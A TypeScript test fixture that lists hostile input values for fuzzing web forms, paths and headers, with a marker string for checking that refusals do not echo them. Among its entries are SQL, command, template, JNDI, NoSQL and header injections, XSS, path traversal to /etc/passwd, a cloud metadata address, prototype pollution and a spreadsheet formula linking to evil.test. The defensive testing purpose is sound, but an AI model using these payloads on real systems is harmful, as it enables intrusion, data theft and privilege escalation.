/** A value that no honest form has; told as the JSON that says it, for not all of them can be made in a program. */
export interface HostileValue {
  name: string;
  /** undefined leaves the field out. */
  json: string | undefined;
}

/** Stands in every hostile text that is long enough to be known again: no refusal may repeat it. */
export const mark = 'zq7-mark';

const deepest = 1_500;

/** Stands where a text belongs, whatever it says. */
const texts: Record<string, string> = {
  empty: '',
  blanks: '   ',
  NUL: `a\u0000${mark}`,
  'an escape sequence': `\u001b[31m${mark}`,
  'a lone surrogate': `${mark}\ud800`,
  'ten kilobytes': `${mark}${'x'.repeat(10_240)}`,
  emoji: `👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ${mark}`,
  'right-to-left marks': `\u202e${mark}\u2066\u200f`,
  'a heap of accents': `${mark}${'\u0301'.repeat(100)}`,
  'letters that grow when composed': 'ﷺ'.repeat(100) + mark,
  'an unseen name': '\u200b\u200d\ufeff',
  'line breaks': `${mark}\r\nBcc: thief@evil.test`,
  'a line separator': `${mark}\u2028\u2029`,
  ['__proto__']: '__proto__',
  constructor: 'constructor',
  SQL: `' OR 1=1; DROP TABLE ${mark}; --`,
  'a comment of SQL': `${mark}'/*`,
  'wildcards of SQL': `%_\\${mark}`,
  HTML: `<img src=x onerror=alert('${mark}')>`,
  'a template': `\${{<%[%'"}}%\\ {{7*7}} ${mark}`,
  'a lookup of a logger': `\${jndi:ldap://127.0.0.1:9/${mark}}`,
  'a way up': `../../../../etc/passwd?${mark}`,
  'a command': `; cat /etc/passwd | ${mark} \`id\``,
  'a formula': `=HYPERLINK("http://evil.test/${mark}";"a")`,
  'an internal address': 'http://169.254.169.254/latest/meta-data/',
  'a script as an address': `javascript:alert('${mark}')`,
  'conversion words': '%s%n%x%d',
  'no number': 'NaN',
  'a number as text': '12e3',
  'a hexadecimal number': '0x10',
  'a day that does not exist': '2027-02-30',
  'a month that does not exist': '2027-13-01',
  'the last of all days': '9999-99-99',
  'the year nought': '0000-01-01',
  'a time that does not exist': '25:61',
  'a day with a time': '2027-01-01T99:99:99Z',
  'the id of nobody': '00000000-0000-0000-0000-000000000000',
};

/** Stands where anything may stand in JSON. */
const others: Record<string, string | undefined> = {
  missing: undefined,
  null: 'null',
  true: 'true',
  false: 'false',
  zero: '0',
  'minus zero': '-0',
  'minus one': '-1',
  'a fraction': '0.5',
  'a number beyond whole numbers': '2147483648',
  'a number beyond exact ones': '9007199254740993',
  'a huge number': '1e308',
  'a number beyond all': '1e309',
  'an empty list': '[]',
  'a list': `["${mark}"]`,
  'a list of nothing': '[null]',
  'a long list': `[${Array(900).fill('1').join()}]`,
  'an object': `{"a":"${mark}"}`,
  'a database query': `{"$ne":null,"$where":"${mark}"}`,
  'an object that means to be text': `{"toString":"${mark}","length":5}`,
  'an object with a prototype': `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"userType":"admin"}}}`,
  'lists in lists': '['.repeat(deepest) + ']'.repeat(deepest),
  'objects in objects': `${'{"a":'.repeat(deepest)}1${'}'.repeat(deepest)}`,
};

/** What each field of each form is tried with. */
export const hostileValues: readonly HostileValue[] = [
  ...Object.entries(others).map(([name, json]) => ({ name, json })),
  ...Object.entries(texts).map(([name, text]) => ({ name, json: JSON.stringify(text) })),
];

/** What stands where only text can: in a path, a query, a header or a field of a multipart form. */
export const hostileTexts: readonly { name: string; text: string }[] = Object.entries(texts).map(([name, text]) => ({
  name,
  text,
}));
